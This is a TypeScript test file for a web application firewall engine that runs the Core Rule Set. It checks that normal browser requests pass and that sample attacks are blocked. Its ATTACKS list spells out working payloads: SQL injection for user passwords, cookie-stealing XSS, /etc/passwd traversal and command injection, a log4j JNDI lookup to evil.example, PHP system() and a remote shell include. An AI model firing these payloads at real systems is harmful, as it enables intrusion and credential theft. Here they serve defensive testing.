// The Core Rule Set through the engine, without a gateway: it loads, leaves a browser alone, scores
// attacks, and means the same with and without every optimisation. (That it passes its own suite is
// shown over real sockets: `rampart rules conformance`.)
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import path from 'node:path';
import { buildRequest } from '../../src/cli/rules/conformance/build-request.ts';
import { readTests } from '../../src/cli/rules/conformance/read-tests.ts';
import { compileProgram, type Outcome, type Program } from '../../src/inspect/index.ts';
import { loadRules } from '../../src/seclang/index.ts';
import { requires, SHARED_DATA } from '../support/requires.ts';
import { crsTexts, firedIds, inspect, transactionOf, type ResponseText } from '../support/rules.ts';

/** Every nth stage of the suite is compared at each paranoia level. */
const STAGES_STEP = 25;

const BROWSER_HEADERS = `Host: shop.example.com
Connection: keep-alive
sec-ch-ua: "Chromium";v="140", "Not=A?Brand";v="24", "Google Chrome";v="140"
sec-ch-ua-mobile: ?0
sec-ch-ua-platform: "Windows"
Upgrade-Insecure-Requests: 1
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: navigate
Sec-Fetch-User: ?1
Sec-Fetch-Dest: document
Accept-Encoding: gzip, deflate, br, zstd
Accept-Language: en-US,en;q=0.9
Referer: https://shop.example.com/category/garden?page=2
Cookie: session=5f2b8c1de3a94b77; theme=dark
`;

const ATTACKS: Readonly<Record<string, string>> = {
  'SQL injection': '/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
  'cross-site scripting': '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  'path traversal': '/download?file=../../../../etc/passwd',
  'command injection': '/ping?host=127.0.0.1;cat%20/etc/passwd',
  'log4j lookup': '/?x=$%7Bjndi:ldap://evil.example/a%7D',
  'PHP injection': '/?x=%3C%3Fphp%20system(%27id%27);',
  'remote file': '/?page=http://10.0.0.1/shell.txt%3F',
};

describe('the Core Rule Set', requires('shared-data'), () => {
  const programs = new Map<number, { readonly optimised: Program; readonly plain: Program }>();

  before(() => {
    for (const paranoia of [1, 2, 4] as const) {
      const source = loadRules(crsTexts({ paranoia }));
      programs.set(paranoia, {
        optimised: compileProgram(source),
        plain: compileProgram(source, { plain: true }),
      });
    }
  });

  test('loads whole', () => {
    const { counts } = programs.get(1)!.optimised;
    const rules = Object.values(counts.rules).reduce((sum, count) => sum + count, 0);
    assert.ok(rules > 600, `${rules} rules`);
    assert.ok(counts.folded > 300, `${counts.folded} decided at load`);
    assert.ok(counts.prefiltered > 150, `${counts.prefiltered} behind the prefilter`);
  });

  test('equal sources have equal fingerprints, others have not', () => {
    const again = compileProgram(loadRules(crsTexts({ paranoia: 1 })));
    assert.equal(again.fingerprint, programs.get(1)!.optimised.fingerprint);
    assert.notEqual(again.fingerprint, programs.get(2)!.optimised.fingerprint);
  });

  for (const target of ['/', '/products/garden-chair-12?page=2&sort=price&q=oak+chair', '/a.css']) {
    test(`leaves a browser's GET ${target} alone`, () => {
      const { optimised } = programs.get(1)!;
      const request = `GET ${target} HTTP/1.1\n${BROWSER_HEADERS}\n`;
      const { outcome, interruption } = inspect(optimised, request);
      assert.deepEqual(firedIds(outcome), []);
      assert.deepEqual(outcome.faults, []);
      assert.equal(outcome.inboundScore, 0);
      assert.equal(interruption, undefined);
    });
  }

  for (const [name, target] of Object.entries(ATTACKS)) {
    test(`blocks ${name}`, () => {
      const { optimised } = programs.get(1)!;
      const request = `GET ${target} HTTP/1.1\n${BROWSER_HEADERS}\n`;
      const { outcome, interruption } = inspect(optimised, request);
      assert.ok(outcome.inboundScore >= 5, `score ${outcome.inboundScore}`);
      assert.equal(interruption?.ruleId, 949110);
      assert.equal(interruption.status, 403);
    });
  }

  for (const paranoia of [1, 2, 4]) {
    test(`means the same plainly evaluated, at paranoia ${paranoia}`, () => {
      const { optimised, plain } = programs.get(paranoia)!;
      const { stages } = readTests(path.join(SHARED_DATA, 'crs/tests/regression/tests'));
      for (let index = paranoia; index < stages.length; index += STAGES_STEP) {
        const stage = stages[index]!;
        const request = transactionOf(buildRequest(stage.input).toString('latin1'));
        const response = reflect(request.body);
        const options = { mode: 'detect', onFault: 'allow' } as const;
        assert.deepEqual(
          summary(inspect(optimised, request, options, response).outcome),
          summary(inspect(plain, request, options, response).outcome),
          stage.id,
        );
      }
    });
  }
});

/** What the suite's back end answers: what the request's JSON asks for. */
function reflect(body: string): ResponseText {
  const plain = { protocol: 'HTTP/1.1', status: 200, statusText: 'OK' };
  try {
    const asked = JSON.parse(body) as { body?: string; headers?: Record<string, string> };
    return {
      ...plain,
      rawHeaders: ['Content-Type', 'text/plain', ...Object.entries(asked.headers ?? {}).flat()],
      body: Buffer.from(asked.body ?? '', 'utf8').toString('latin1'),
    };
  } catch {
    return { ...plain, rawHeaders: ['Content-Type', 'text/plain'] };
  }
}

function summary(outcome: Outcome): unknown {
  return { ...outcome, inspectMicroseconds: 0 };
}
